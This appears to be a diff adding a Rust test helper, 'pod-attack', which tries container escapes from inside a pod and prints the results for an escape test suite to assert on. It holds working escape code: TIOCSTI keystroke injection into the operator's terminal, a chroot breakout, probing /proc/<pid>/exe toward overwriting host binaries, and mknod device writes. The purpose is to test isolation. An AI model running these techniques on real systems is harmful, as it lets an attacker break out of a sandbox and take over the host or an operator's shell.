@@ -1,0 +1,198 @@
+//! `pod-attack`: the hostile half of the escape tests. The tests put this static binary into
+//! an image they build and run one subcommand in a pod; it tries one way out and prints what
+//! happened, one `key: value` line per finding, for the test to assert on. It never decides
+//! whether an attack "should" work: the test does.
+//!
+//! ```text
+//! pod-attack tiocsti TEXT      push TEXT into the input queue of the terminals on fds 0-2
+//! pod-attack chroot-escape     the classic escape of a chrooted root process
+//! pod-attack exes              every process's executable, and whether it can be opened
+//! pod-attack fds               the descriptors this process holds
+//! pod-attack creds             session, ids and all five capability sets
+//! pod-attack mknod PATH MAJ MIN   make a character device and write to it
+//! ```
+use std::ffi::CString;
+use std::fs;
+use std::io::{self, Write};
+use std::os::unix::ffi::OsStrExt;
+use std::path::Path;
+
+fn main() {
+    let args: Vec<String> = std::env::args().skip(1).collect();
+    let out = match args
+        .iter()
+        .map(String::as_str)
+        .collect::<Vec<_>>()
+        .as_slice()
+    {
+        ["tiocsti", text] => tiocsti(text),
+        ["chroot-escape"] => chroot_escape(),
+        ["exes"] => exes(),
+        ["fds"] => fds(),
+        ["creds"] => creds(),
+        ["mknod", path, major, minor] => mknod(path, major, minor),
+        _ => {
+            eprintln!("usage: pod-attack tiocsti TEXT | chroot-escape | exes | fds | creds | mknod PATH MAJ MIN");
+            std::process::exit(2);
+        }
+    };
+    print!("{out}");
+    let _ = io::stdout().flush();
+}
+
+fn result(rc: libc::c_int) -> String {
+    if rc < 0 {
+        format!("error {}", io::Error::last_os_error())
+    } else {
+        "ok".into()
+    }
+}
+
+fn cstr(s: &str) -> CString {
+    CString::new(s).expect("no NUL in attack paths")
+}
+
+/// TIOCSTI on each of fds 0-2: with a terminal that belongs to the operator, each byte
+/// would be typed into the operator's shell.
+fn tiocsti(text: &str) -> String {
+    let mut out = String::new();
+    for fd in 0..3 {
+        // SAFETY: isatty takes an integer.
+        if unsafe { libc::isatty(fd) } != 1 {
+            out.push_str(&format!("tiocsti fd {fd}: not a terminal\n"));
+            continue;
+        }
+        let mut rc = 0;
+        for b in text.bytes() {
+            // SAFETY: TIOCSTI reads one byte through the pointer, a live local.
+            rc = unsafe { libc::ioctl(fd, libc::TIOCSTI, &b) };
+            if rc < 0 {
+                break;
+            }
+        }
+        out.push_str(&format!("tiocsti fd {fd}: {}\n", result(rc)));
+    }
+    out
+}
+
+/// mkdir x; chroot x (the cwd stays outside it); climb; chroot . — escapes a chroot for any
+/// process with CAP_SYS_CHROOT. Then looks for what only exists above the app's root.
+fn chroot_escape() -> String {
+    let _ = fs::create_dir_all("/tmp/escape");
+    let mut out = String::new();
+    // SAFETY: valid C strings and plain calls; this process exists to try this.
+    unsafe {
+        out.push_str(&format!(
+            "chroot: {}\n",
+            result(libc::chroot(cstr("/tmp/escape").as_ptr()))
+        ));
+        for _ in 0..64 {
+            libc::chdir(cstr("..").as_ptr());
+        }
+        out.push_str(&format!(
+            "chroot .: {}\n",
+            result(libc::chroot(cstr(".").as_ptr()))
+        ));
+    }
+    for marker in ["/stage2-init", "/rkt", "/opt/stage2", "/etc/os-release"] {
+        out.push_str(&format!("sees {marker}: {}\n", Path::new(marker).exists()));
+    }
+    out
+}
+
+/// For every process: its executable and whether it can be opened (the first step of
+/// overwriting a host binary through /proc/<pid>/exe).
+fn exes() -> String {
+    let mut out = String::new();
+    let Ok(entries) = fs::read_dir("/proc") else {
+        return "proc: unreadable\n".into();
+    };
+    let mut pids: Vec<u32> = entries
+        .flatten()
+        .filter_map(|e| e.file_name().to_str()?.parse().ok())
+        .collect();
+    pids.sort_unstable();
+    for pid in pids {
+        let exe = format!("/proc/{pid}/exe");
+        let target = fs::read_link(&exe)
+            .map(|t| t.display().to_string())
+            .unwrap_or_else(|e| format!("({e})"));
+        // SAFETY: a valid C string; the descriptor is closed right away.
+        let open = unsafe {
+            let fd = libc::open(cstr(&exe).as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
+            let r = result(fd);
+            if fd >= 0 {
+                libc::close(fd);
+            }
+            r
+        };
+        out.push_str(&format!("exe {pid} {target}: open {open}\n"));
+    }
+    out
+}
+
+/// The descriptors held, with what they point at (a leaked host descriptor shows up here).
+fn fds() -> String {
+    let mut out = String::new();
+    let mut fds: Vec<u32> = fs::read_dir("/proc/self/fd")
+        .map(|d| {
+            d.flatten()
+                .filter_map(|e| e.file_name().to_str()?.parse().ok())
+                .collect()
+        })
+        .unwrap_or_default();
+    fds.sort_unstable();
+    for fd in fds {
+        let target = fs::read_link(format!("/proc/self/fd/{fd}"))
+            .map(|t| String::from_utf8_lossy(t.as_os_str().as_bytes()).into_owned())
+            .unwrap_or_default();
+        // The directory listing itself has a descriptor open while it runs.
+        if !target.starts_with("/proc/") {
+            out.push_str(&format!("fd {fd}: {target}\n"));
+        }
+    }
+    out
+}
+
+/// Session, process group, ids, and the five capability sets from /proc/self/status.
+fn creds() -> String {
+    // SAFETY: plain calls without arguments.
+    let (pid, sid, pgid) = unsafe { (libc::getpid(), libc::getsid(0), libc::getpgid(0)) };
+    let mut out = format!("pid: {pid}\nsid: {sid}\npgid: {pgid}\n");
+    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
+    for line in status.lines() {
+        if line.starts_with("Cap") || line.starts_with("Uid") || line.starts_with("NoNewPrivs") {
+            out.push_str(line);
+            out.push('\n');
+        }
+    }
+    out
+}
+
+/// A character device made in `path`, then opened for writing.
+fn mknod(path: &str, major: &str, minor: &str) -> String {
+    let (Ok(major), Ok(minor)) = (major.parse::<u32>(), minor.parse::<u32>()) else {
+        return "mknod: bad numbers\n".into();
+    };
+    let c = cstr(path);
+    // SAFETY: valid C string and plain integers.
+    let made = unsafe {
+        libc::mknod(
+            c.as_ptr(),
+            libc::S_IFCHR | 0o666,
+            libc::makedev(major, minor),
+        )
+    };
+    let mut out = format!("mknod: {}\n", result(made));
+    // SAFETY: as above; closed right after.
+    let fd = unsafe { libc::open(c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+    out.push_str(&format!("open: {}\n", result(fd)));
+    if fd >= 0 {
+        // SAFETY: writes one byte from a literal.
+        let n = unsafe { libc::write(fd, b"x".as_ptr().cast(), 1) };
+        out.push_str(&format!("write: {}\n", result(n as libc::c_int)));
+        // SAFETY: closing the descriptor opened above.
+        unsafe { libc::close(fd) };
+    }
+    out
+}
